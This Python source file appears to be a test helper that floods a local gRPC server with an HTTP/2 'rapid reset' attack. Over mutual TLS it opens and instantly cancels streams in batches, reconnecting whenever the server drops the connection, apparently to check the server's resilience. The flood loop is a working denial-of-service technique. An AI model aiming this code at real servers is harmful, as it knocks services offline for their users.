"""Somebody who opens calls and takes them back at once, as fast as it goes (HTTP/2 rapid reset)."""

import socket
import ssl
import threading

import h2.config
import h2.connection
import h2.exceptions

METHOD = "/instroom.allocation.v1.AllocationService/ListAllocations"
# Frames that go out together.
TOGETHER = 50


class Flood(threading.Thread):
    """Over one connection after another, with a certificate that is good, until stopped."""

    def __init__(self, port, folder, name):
        super().__init__(daemon=True)
        self.port, self.resets, self.connections = port, 0, 0
        self.context = ssl.create_default_context(cafile=folder / "ca.pem")
        self.context.load_cert_chain(folder / f"{name}.pem", folder / f"{name}.key")
        self.context.set_alpn_protocols(["h2"])
        self.context.check_hostname = False
        self.stopped = threading.Event()

    def run(self):
        while not self.stopped.is_set():
            try:
                self.flood_once()
            except (OSError, h2.exceptions.H2Error):
                continue  # Thrown out: come again.

    def flood_once(self):
        with socket.create_connection(("127.0.0.1", self.port), timeout=5) as bare:
            with self.context.wrap_socket(bare, server_hostname="localhost") as connection:
                self.connections += 1
                self.send_resets(connection)

    def send_resets(self, connection):
        connection.settimeout(0.001)
        speaker = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
        speaker.initiate_connection()
        headers = [(":method", "POST"), (":scheme", "https"), (":path", METHOD),
                   (":authority", "localhost"), ("te", "trailers"),
                   ("content-type", "application/grpc")]
        while not self.stopped.is_set():
            for _ in range(TOGETHER):
                stream = speaker.get_next_available_stream_id()
                speaker.send_headers(stream, headers)
                speaker.reset_stream(stream)
                self.resets += 1
            connection.settimeout(5)
            connection.sendall(speaker.data_to_send())
            connection.settimeout(0.001)
            try:
                said = connection.recv(65536)
            except TimeoutError:
                continue
            if not said:
                return
            speaker.receive_data(said)
